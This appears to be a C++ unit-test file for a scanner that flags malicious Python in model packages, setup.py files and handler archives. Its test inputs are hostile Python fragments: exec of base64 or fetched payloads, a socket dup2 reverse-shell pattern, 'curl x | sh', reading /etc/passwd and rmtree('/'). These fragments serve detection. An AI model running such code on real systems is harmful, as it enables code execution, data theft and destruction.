#include <gtest/gtest.h>

#include "formats/zip/builder_for_test.h"
#include "loading/look_for_test.h"

namespace day {
namespace {

std::string Handler(std::string_view code) { return VerdictOf("handler.py", std::string(code)); }

TEST(Python, CallsOrdinaryModelsClean) {
  EXPECT_EQ(VerdictOf("modeling_own.py",
                      "import torch, re\nfrom torch import nn\nclass Model(nn.Module):\n  def __init__(self):\n    self.x = nn.Linear(1, 2)\n    "
                      "self.x.eval()\n    re.compile('x')\n"
                      "  def load(self, p):\n    return torch.load(p)\n"),
            "clean");
  EXPECT_EQ(
      VerdictOf("setup.py", "import subprocess\nv = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nfrom setuptools import setup\nsetup(name='x')\n"),
      "clean");
}
TEST(Python, TellsOfSourcesThatAreTooLargeToRead) {
  const std::string large = "import os\nos.system('x')\n#" + std::string(5 << 20, ' ');
  EXPECT_TRUE(Finds(Look("modeling_own.py", large), "limit"));
  EXPECT_FALSE(Look("modeling_own.py", large).no_model);
  EXPECT_TRUE(Finds(Look("m.zip", zip::Build({{.name = "code/any.py", .bytes = large}})), "limit"));
  EXPECT_TRUE(Look("any.py", large).no_model);
}
TEST(Python, CallsDecodedCodeMaliciousInAnyFile) {
  EXPECT_EQ(VerdictOf("any.py", "import base64\ndef f():\n  exec(base64.b64decode('QQ=='))\n"), "malicious");
  EXPECT_EQ(VerdictOf("any.py", "import zlib, base64 as b\nx = zlib.decompress(b.b64decode('QQ=='))\ny = x.decode()\nexec(compile(x, '', 'exec'))\n"),
            "malicious");
  EXPECT_EQ(VerdictOf("any.py", "import urllib.request as u\nexec(u.urlopen('http://x').read())\n"), "malicious");
  EXPECT_EQ(VerdictOf("any.py", "getattr(__import__('os'), 'sys' + 'tem')('x')\n"), "malicious");
  EXPECT_EQ(VerdictOf("any.py", "import socket, os\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)\n"), "malicious");
  EXPECT_EQ(VerdictOf("any.py", "import pickle, base64\npickle.loads(base64.b64decode('QQ=='))\n"), "malicious");
}
TEST(Python, CallsProgramsWhileALoaderImportsMalicious) {
  EXPECT_EQ(Handler("import os\nos.system('x')\n"), "malicious");
  EXPECT_EQ(Handler("from os import *\nsystem('x')\n"), "malicious");
  EXPECT_EQ(Handler("import subprocess\nclass H:\n  def initialize(self, c):\n    subprocess.run(['x'])\n"), "malicious");
  EXPECT_EQ(Handler("exec('import os; os.system(\"x\")')\n"), "malicious");
  EXPECT_EQ(Handler("import requests\nrequests.post('http://x', data=1)\n"), "malicious");
}
TEST(Python, CallsWhatHidesOrReachesOutMalicious) {
  for (std::string_view code :
       {"getattr(__builtins__, 'ev' + 'al')('1')\n", "exec(chr(105) + chr(109))\n", "exec(''.join(map(chr, [105, 109])))\n",
        "exec(bytes([105, 109]).decode())\n", "f.__globals__['__builtins__']['exec']('1')\n", "import ctypes\nctypes.CDLL('libc.so.6').system(b'x')\n",
        "open('/etc/passwd').read()\n", "import shutil\nshutil.rmtree('/')\n", "eval('__import__(\"os\").system(\"x\")')\n"})
    EXPECT_EQ(Handler(code), "malicious") << code;
}
TEST(Python, CallsCommandsThatFetchAndRunMalicious) {
  EXPECT_EQ(VerdictOf("any.py", "import os\ndef f():\n  os.system('curl x | sh')\n"), "malicious");
  EXPECT_EQ(VerdictOf("setup.py", "import os\nclass I(install):\n  def run(self):\n    os.system('wget http://x')\n"), "malicious");
  EXPECT_EQ(VerdictOf("any.py", "import os\ndef f():\n  os.system('wget http://x')\n"), "unreadable");
}
TEST(Python, DoubtsWhatIsSeldomNeeded) {
  EXPECT_EQ(Handler("import os\ndef helper():\n  os.system('x')\n"), "suspicious");
  EXPECT_EQ(Handler("import os\nif __name__ == '__main__':\n  os.system('x')\n"), "suspicious");
  EXPECT_EQ(Handler("import requests\ndef preprocess(u):\n  return requests.get(u)\n"), "suspicious");
  EXPECT_EQ(Handler("import ctypes\nctypes.CDLL('x.so')\n"), "suspicious");
  EXPECT_EQ(VerdictOf("model.py", "import os\nclass M:\n  def load(self):\n    os.system(x)\n"), "suspicious");
  EXPECT_EQ(Handler("def f(socket):\n  socket.send(1)\n"), "clean");
  EXPECT_EQ(Handler("eval(input())\n"), "suspicious");
  EXPECT_EQ(Handler("PLACE = '/etc/passwd'\n"), "suspicious");
  EXPECT_EQ(Handler("# coding: utf-7\n"), "suspicious");
  EXPECT_EQ(VerdictOf("setup.py", "import os, sys\nif sys.argv[-1] == 'x':\n  os.system('twine upload')\n"), "suspicious");
}
TEST(Python, LeavesOtherProgramsAlone) {
  EXPECT_TRUE(Look("train.py", "import os\nos.system('x')\n").no_model);
  EXPECT_EQ(VerdictOf("any.py", "import base64\ndef f():\n  x = base64.b64decode(y)\ndef g(x):\n  eval(x)\n"), "unreadable");
  EXPECT_EQ(VerdictOf("any.py", "import socket, os\ns = socket.socket()\ndef f():\n  os.dup2(1, 2)\n"), "unreadable");
  EXPECT_EQ(VerdictOf("train.py", "import os\nos.system('x')\n"), "unreadable");
}
TEST(Python, ReadsHandlersInArchives) {
  const auto mar = [](std::string_view path) {
    return VerdictOf("a.mar", zip::Build({{.name = "MAR-INF/MANIFEST.json", .bytes = R"({"model": {"handler": "own.py"}})"},
                                          {.name = std::string(path), .bytes = "import os\nos.system('x')\n"}}));
  };
  EXPECT_EQ(mar("own.pyc"), "suspicious");
  EXPECT_EQ(mar("own.py"), "malicious");
  EXPECT_EQ(mar("code/own.py"), "malicious");
}

}  // namespace
}  // namespace day
